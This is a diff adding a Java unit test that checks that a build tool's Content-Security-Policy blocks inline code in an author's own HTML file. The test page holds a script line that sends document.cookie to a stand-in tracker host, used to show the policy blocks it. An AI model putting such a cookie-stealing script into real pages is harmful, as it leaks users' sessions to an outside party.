@@ -11,6 +11,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Locale;
 import java.util.Map;
 import java.util.TreeMap;
 import java.util.stream.Stream;
@@ -50,6 +51,27 @@ class ReaderStageTest {
                 el.attributes().forEach(a -> assertFalse(a.getKey().startsWith("on"), page + ": inline handler " + a));
             }
         }
+    }
+
+    /**
+     * The policy is added to every page the layouts did not write with it, and allowed each one's inline code by hash:
+     * right for a deck the build wrote, but an author's own HTML file, had anything let it into the site, would have had
+     * its scripts allowed too. Only the build's pages have their inline code allowed.
+     */
+    @Test
+    void anAuthorsHtmlFileGetsAPolicyAllowingNoneOfItsInlineCode(@TempDir Path site) throws Exception {
+        String page = "<!DOCTYPE html><html><head><style>p{}</style></head><body><p style=\"color:red\">Hi</p>"
+                + "<script>fetch('https://tracker.example/'+document.cookie)</script></body></html>";
+        Files.createDirectories(site.resolve("slides"));
+        Files.writeString(site.resolve("slides/deck.slides.html"), page);
+        Files.writeString(site.resolve("embed.html"), page);
+        ContentSecurityPolicy csp = new ContentSecurityPolicy(List.of("speakerView()"), List.of());
+        ReaderStage.addPolicy(SiteFile.under(site), csp, 2, java.util.Set.of(), java.util.Set.of("embed.html"));
+        String script = "'sha256-" + ContentSecurityPolicy.hash("fetch('https://tracker.example/'+document.cookie)") + "'";
+        String deck = Jsoup.parse(Files.readString(site.resolve("slides/deck.slides.html"))).selectFirst("meta[http-equiv]").attr("content");
+        assertTrue(deck.contains(script) && deck.contains("'sha256-" + ContentSecurityPolicy.hash("p{}") + "'"), deck);
+        String embed = Jsoup.parse(Files.readString(site.resolve("embed.html"))).selectFirst("meta[http-equiv]").attr("content");
+        assertEquals(String.format(Locale.ROOT, ContentSecurityPolicy.BASE, "", ""), embed, "nothing inline of the author's file runs");
     }
 
     @Test
